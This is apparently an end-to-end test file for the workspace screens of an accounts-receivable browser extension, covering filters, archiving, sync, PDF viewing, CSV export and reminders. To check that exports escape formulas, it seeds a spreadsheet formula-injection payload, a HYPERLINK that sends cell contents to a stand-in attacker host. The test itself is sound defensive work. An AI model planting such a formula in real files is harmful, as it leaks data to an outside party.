import Papa from 'papaparse'
import { afterAll, beforeAll, expect, it } from 'vitest'
import type { Customer, Invoice, Item, Payment } from '../../../core/ledger/records.ts'
import { keyboard } from '../harness/keyboard.ts'
import { connections, holdStore, ledgerRows } from '../harness/ledger.ts'
import type { Place } from '../harness/places.ts'
import { eventually, type Role, type Screen } from '../harness/screen.ts'
import { isChromium, type Stage } from '../harness/stage.ts'
import { stopAt } from '../harness/stop-at.ts'
import { atRest } from './connect.ts'
import { tell } from './worker.ts'

const today = () => new Date().toISOString().slice(0, 10)
const FORMULA = '=HYPERLINK("https://thief.example/?"&A1,"Total")'

/** What is done in the workspace every day (issue 3, points 7 to 11), on one company, through its screens. */
export function workspace({ system, browser, open: openStage }: Place): void {
  const { cases, names, refusals, wire } = system
  let stage: Stage
  let options: Screen
  let screen: Screen
  let connectionId: string
  const books = () => system.books(stage)
  const invoices = () => ledgerRows<Invoice>(options, 'invoices')
  const payments = () => ledgerRows<Payment>(options, 'payments')
  const invoiceCalled = async (number: string) =>
    (await invoices()).find(row => row.number === number) as Invoice
  const show = async (hash: string) => screen.goto(`${(await screen.url()).split('#')[0]}#${hash}`)

  beforeAll(async () => {
    stage = await openStage()
    books().bill(FORMULA, '@SUM(A1)', 10_000)
    options = await system.connect(stage)
    await atRest(options)
    connectionId = (await connections(options))[0]?.id ?? ''
    screen = await stage.extension('workspace.html#invoices')
    await screen.see(cases.open)
  })
  afterAll(() => stage?.close())

  /** An invoice of ours, sent as the form sends it. */
  async function make(number: string): Promise<string> {
    const [item] = (await ledgerRows<Item>(options, 'items')).filter(row => row.name === names.item)
    const [customer] = (await ledgerRows<Customer>(options, 'customers')).filter(
      row => row.name === names.customer,
    )
    const invoice = {
      number,
      customerId: customer?.id ?? '',
      date: today(),
      lines: [{ itemId: item?.id ?? '', quantity: '2', unitPrice: '85', amount: 17_000 }],
    }
    const { id } = await tell(options, 'invoice.save', { connectionId, invoice, push: true })
    return id
  }
  /** One whose number is taken there: refused, and mended by the next free number. */
  async function makeRefused(number: string): Promise<string> {
    books().copyInvoice(cases.open, number)
    const id = await make(number)
    await eventually(
      `the refusal of ${number}`,
      async () => (await invoices()).find(row => row.id === id)?.syncState === 'failed',
    )
    return id
  }
  async function pay(number: string, amount: number): Promise<string> {
    const { customerId, id: invoiceId } = await invoiceCalled(number)
    const payment = {
      customerId,
      date: today(),
      amount,
      method: 'ach' as const,
      status: 'authorized' as const,
      applications: [{ invoiceId, amount }],
    }
    return (await tell(options, 'payment.record', { connectionId, payment })).id
  }

  /** What the address asks for is answered a moment later; the rows of the question before stay until then. */
  const answered = () =>
    eventually('the rows of this address', () =>
      screen.run<boolean>(`document.querySelector('table')?.getAttribute('aria-busy') === 'false'`),
    )

  it('filters and order stand in the address, and outlive a reload', async () => {
    await screen.choose('Status', 'Overdue')
    await screen.fill('Search number or customer', '10')
    await screen.click('link', 'AR balance')
    const shown = () =>
      screen.run<string[]>(`[...document.querySelectorAll('tbody tr')].map(row => row.innerText)`)
    const chosen = async () =>
      Object.fromEntries(new URLSearchParams((await screen.url()).split('?')[1]).entries())
    const wanted = { status: 'overdue', search: '10', sort: 'balance', order: 'down' }
    await eventually('the address', async () => {
      const params = await chosen()
      return Object.entries(wanted).every(([name, value]) => params[name] === value)
    })
    await answered()
    const before = await shown()
    expect(before.length).toBeGreaterThan(1)
    expect(before.every(row => row.includes('Overdue'))).toBe(true)
    await screen.reload()
    await screen.see('Overdue')
    await eventually('the same rows', async () => JSON.stringify(await shown()) === JSON.stringify(before))
    const status = `[...document.querySelectorAll('label')]
      .find(label => label.textContent.trim() === 'Status').control.value`
    expect(await screen.run(status)).toBe('overdue')
    await screen.run('history.back()')
    await eventually('the order before', async () => (await chosen()).sort === undefined)
  })

  it('bulk: what is ticked is archived, and comes back', async () => {
    await show('invoices?status=paid')
    await screen.see(cases.paid)
    await answered()
    const numbers = await screen.run<string[]>(
      `[...document.querySelectorAll('tbody th[scope=row]')].map(cell => cell.innerText)`,
    )
    const [first = '', second = ''] = numbers
    const selected = { css: '[aria-label="With the selected invoices"]' }
    for (const number of [first, second]) await screen.click('checkbox', `Select ${number}`)
    await screen.see('2 selected')
    const archived = async () => (await invoices()).filter(row => row.archivedAt).map(row => row.number)
    await screen.click('button', 'Archive', selected)
    await screen.see('2 invoices were archived.')
    expect((await archived()).sort()).toEqual([first, second].sort())
    await show('invoices?archived=yes')
    await screen.see(first)
    await screen.click('checkbox', 'Select every invoice of this page')
    await screen.see('2 selected')
    await screen.click('button', 'Unarchive', selected)
    await screen.see('2 invoices are listed again.')
    expect(await archived()).toEqual([])
  })

  it('the worker is stopped during Archive: it is done after all, or the screen says that it may not be', async () => {
    const { id } = await invoiceCalled(cases.voided)
    const archived = async () => (await invoiceCalled(cases.voided)).archivedAt
    const logged = async () =>
      (await ledgerRows<{ recordId?: string; message: string }>(options, 'events')).filter(
        event => event.recordId === id && event.message === 'archived',
      )
    await show(`invoices?id=${id}`)
    const menu = () => screen.click('button', `Actions for ${cases.voided}`, { css: '.side-panel' })
    const archive = () => screen.click('menuitem', 'Archive')
    // The screen itself reads nothing while the store is held.
    await menu()

    const held = await holdStore(options, 'invoices')
    await archive()
    await eventually('word that no answer came', async () => {
      await stage.stopWorker()
      return /The browser stopped AR Companion before it answered/.test(await screen.text())
    })
    await held()
    expect(await archived()).toBeUndefined()

    await menu()
    const again = await holdStore(options, 'invoices')
    await archive()
    await stage.stopWorker()
    await again()
    await screen.see(`Invoice ${cases.voided} was archived.`)
    expect(await archived()).toBeDefined()
    expect(await logged()).toHaveLength(1)
    await screen.click('button', 'Undo', { css: '.toast', text: `Invoice ${cases.voided} was archived.` })
    await screen.see(`Invoice ${cases.voided} is listed again.`)
    expect(await archived()).toBeUndefined()
  })

  it('the worker is stopped during Sync now: it goes on, nothing is lost, and the log tells', async () => {
    const before = await invoiceCalled(cases.partiallyPaid)
    books().pay(cases.partiallyPaid, 100)
    const stopped = stopAt(stage, system.traffic(stage), 'before', wire.asksForChanges)
    await show('sync-log')
    await screen.click('button', 'Sync now')
    await stopped
    await eventually(
      'the change to arrive',
      async () =>
        (await invoiceCalled(cases.partiallyPaid)).accountingBalance === before.accountingBalance - 100,
    )
    await screen.see('Stopped')
    await eventually('the button to be free', () =>
      screen.run<boolean>(
        `![...document.querySelectorAll('button')].find(each => each.textContent.trim() === 'Sync now').disabled`,
      ),
    )
    await eventually('every run to be closed', async () =>
      (await ledgerRows<{ outcome?: string }>(options, 'runs')).every(({ outcome }) => outcome !== undefined),
    )
    const twice = (await payments()).filter(({ amount }) => amount === 100)
    expect(twice).toHaveLength(1)
  })

  it('the PDF of an invoice is shown in the workspace', async () => {
    await show(`invoices?id=${(await invoiceCalled(cases.open)).id}`)
    await screen.click('button', 'PDF')
    await screen.see(`PDF of ${cases.open}`)
    const address = await eventually('the frame', () =>
      screen.run<string>(`document.querySelector('dialog iframe.pdf')?.src`),
    )
    expect(address).toMatch(/^blob:/)
    // The browser's own viewer has taken the frame, which a policy that forbade it would have left empty.
    if (isChromium(stage)) {
      const page = stage.chromium.context.pages().find(each => each.url().includes('workspace.html'))
      await eventually('the viewer', () =>
        page
          ?.frames()
          .some(each => each.url().startsWith('blob:') && each.parentFrame() === page.mainFrame()),
      )
    }
    const saved = await screen.saved(() => screen.click('button', 'Download'))
    expect(saved.name).toBe(`${cases.open}.pdf`)
    expect(saved.bytes.subarray(0, 5).toString()).toBe('%PDF-')
    await screen.press('Escape')
  })

  it('CSV export: every row of the filter, by download, and no cell is a formula', async () => {
    await show('invoices')
    await screen.click('button', 'More for this page')
    const saved = await screen.saved(() => screen.click('menuitem', 'Export CSV'))
    expect(saved.name).toMatch(/^invoices-[A-Z][\w-]+-\d{4}-\d\d-\d\d\.csv$/)
    expect(saved.name).toContain(books().name.split(' ')[0])
    const { data } = Papa.parse<string[]>(saved.bytes.toString().replace('\ufeff', ''), {
      skipEmptyLines: true,
    })
    const listed = (await invoices()).filter(row => !row.skippedFor && !row.archivedAt)
    expect(data).toHaveLength(listed.length + 1)
    expect(data.find(row => row[1]?.includes('HYPERLINK'))?.slice(0, 2)).toEqual(["'@SUM(A1)", `'${FORMULA}`])
    expect(data.flat().filter(cell => /^[=+@]|^-(?!\d+(\.\d+)?$)/.test(cell))).toEqual([])
  })

  it('the columns of a processor’s file are asked once', async () => {
    const file = `When,What for,How much,How it went,Key\n${today()},${cases.open},5.00,Settled,K-1\n`
    const COLUMNS = {
      Date: 'When',
      'Invoice number': 'What for',
      Amount: 'How much',
      Status: 'How it went',
      'Processor reference': 'Key',
    }
    const open = async () => {
      await show('payments')
      await screen.reload()
      await screen.click('button', 'Import results')
      await screen.fill('Or paste the rows', file)
      await screen.click('button', 'Read these rows')
    }
    await open()
    await screen.see('Choose the columns')
    for (const [label, column] of Object.entries(COLUMNS))
      await screen.choose(new RegExp(`^${label}( \\*)?$`), column)
    await screen.see('1 new payment')
    await open()
    await screen.see('1 new payment')
    expect(await screen.text()).not.toContain('Choose the columns')
    await screen.click('button', 'Cancel')
  })

  it('reminders are paused for an invoice and for a customer, by their buttons', async () => {
    await options.goto(`${(await options.url()).split('#')[0]}#cadence`)
    await options.click('switch', 'Send reminders')
    await options.see('Send reminders?')
    await options.click('button', 'Send reminders')
    const { id, customerId } = await invoiceCalled(cases.open)
    const customer = async () =>
      (await ledgerRows<Customer>(options, 'customers')).find(row => row.id === customerId)
    await show(`invoices?id=${id}`)
    await screen.click('button', 'Pause reminders')
    await screen.see('Paused for this invoice.')
    expect((await invoiceCalled(cases.open)).remindersPaused).toBe(true)
    await screen.click('button', 'Resume reminders')
    await screen.gone('Paused for this invoice.')
    await show(`customers?id=${customerId}`)
    await screen.click('button', 'Pause reminders')
    await screen.see('Resume reminders')
    expect((await customer())?.remindersPaused).toBe(true)
    await show(`invoices?id=${id}`)
    await screen.see('Paused for this customer.')
    await show(`customers?id=${customerId}`)
    await screen.click('button', 'Resume reminders')
    await screen.see('Pause reminders')
    expect((await customer())?.remindersPaused ?? false).toBe(false)
    await options.click('switch', 'Send reminders')
  })

  it('attention: the badge counts the list, and each row leads to its fix', async () => {
    const failed = await pay(cases.overdue, 10_000)
    await eventually('the payment to stand there', async () =>
      (await payments()).some(row => row.id === failed && row.standing === 'there'),
    )
    await tell(options, 'payment.status', { connectionId, id: failed, status: 'failed' })
    await makeRefused('4101')
    const refusal = system.traffic(stage).faults.plan({
      method: 'POST',
      path: /\/payment$/,
      times: Number.POSITIVE_INFINITY,
      fault: { kind: 'fault', ...refusals.wrapper, detail: 'No.' },
    })
    const stuck = await pay(cases.partiallyPaid, 500)
    await eventually('the refusal of the payment', async () =>
      (await payments()).some(row => row.id === stuck && row.syncState === 'failed'),
    )
    refusal.remove()
    // Its invoice is paid by somebody else first.
    books().pay(cases.open, books().invoice(cases.open).due - 100)
    await pay(cases.open, 700)
    await show('attention')
    await screen.see('1 payment needs your choice')

    const rows = () => screen.run<number>(`document.querySelectorAll('.attention-rows > li').length`)
    const badge = () => options.run<string>('chrome.action.getBadgeText({})')
    await eventually('the badge to count the rows', async () => (await badge()) === String(await rows()))
    expect(await rows()).toBeGreaterThanOrEqual(5)

    const WAYS: [kind: string, role: Role, verb: string, leadsTo: string | RegExp][] = [
      ['1 failed payment still in the books', 'button', 'Delete it there for me', /Delete this payment of/],
      ['2 failed syncs', 'button', 'Use the next free number', 'Change and sync again'],
      ['1 balance mismatch', 'link', 'Details', 'The balances differ. Re-Sync first'],
    ]
    for (const [kind, role, verb, leadsTo] of WAYS) {
      await show('attention')
      await screen.see(kind)
      await screen.click(role, verb, { css: 'section', text: kind })
      await screen.see(leadsTo)
      if (await screen.run<boolean>(`!!document.querySelector('dialog:modal')`))
        await screen.click('button', 'Cancel')
    }
    await show('attention')
    await screen.click('button', 'Apply what is still owed')
    await screen.gone('1 payment needs your choice')
    await eventually('the badge to follow', async () => (await badge()) === String(await rows()))

    system.signOut(stage)
    await show('sync-log')
    await screen.click('button', 'Sync now')
    await show('attention')
    await screen.see('1 company asks to sign in again')
    await eventually('the badge to count it', async () => (await badge()) === String(await rows()))
    await screen.click('button', 'Sign in again', { css: '.attention-rows', text: 'Sign in again' })
    await screen.gone('1 company asks to sign in again')
  })

  // Behind the last stop of a page come Firefox's own bars, from which no driver's Tab comes back.
  it.runIf(browser === 'chromium')(
    'one day’s round by keyboard alone, with the focus in sight at every stop',
    async () => {
      await makeRefused('4201')
      await screen.close()
      screen = await stage.extension('workspace.html#overview')
      await screen.see('Receivables by age')
      const keys = keyboard(screen)
      /** A page of the workspace from its navigation; the next Tab then starts in its content. */
      const turnTo = async (name: RegExp) => {
        await keys.press(name)
        await eventually('the focus to follow', () => screen.run(`document.activeElement?.id === 'main'`))
      }

      await turnTo(/^Invoices/)
      await screen.see(cases.overdue)
      await keys.tabTo(/^Search number or customer/)
      await keys.type(cases.overdue)
      await eventually('the search', async () => (await screen.url()).includes(`search=${cases.overdue}`))
      await keys.tabTo(/^Status/)
      await keys.type('Over')
      await eventually('the filter', async () => (await screen.url()).includes('status=overdue'))

      await keys.press(new RegExp(`^${cases.overdue}$`))
      await screen.see('Activity')
      await keys.press(/^Record a payment$/)
      await screen.see('Apply to invoices')
      await keys.tabTo(/^Amount received/)
      await screen.press('Control+a')
      await keys.type('25.00')
      await keys.press(/^Record the payment$/)
      await screen.see('The payment was recorded.')
      expect((await payments()).filter(row => row.amount === 2500)).toHaveLength(1)

      await turnTo(/^Invoices/)
      await keys.tabTo(/^Search number or customer/)
      await keys.type(cases.paid)
      await eventually('the search', async () => (await screen.url()).includes(`search=${cases.paid}`))
      await keys.press(new RegExp(`^Actions for ${cases.paid}`))
      await eventually('the menu', async () => (await keys.at()).name === 'Details')
      await keys.type('a')
      expect(await keys.at()).toEqual({ name: 'Archive', visible: true })
      await screen.press('Enter')
      await screen.see(`Invoice ${cases.paid} was archived.`)
      expect(await keys.at()).toMatchObject({ visible: true })

      await turnTo(/^Attention/)
      await keys.press(/^Use the next free number/)
      await screen.see('Change and sync again')
      await keys.press(/^Change and sync again/)
      await screen.see(new RegExp(`Invoice 42\\d\\d stands in ${system.title} now\\.`))
    },
  )
}
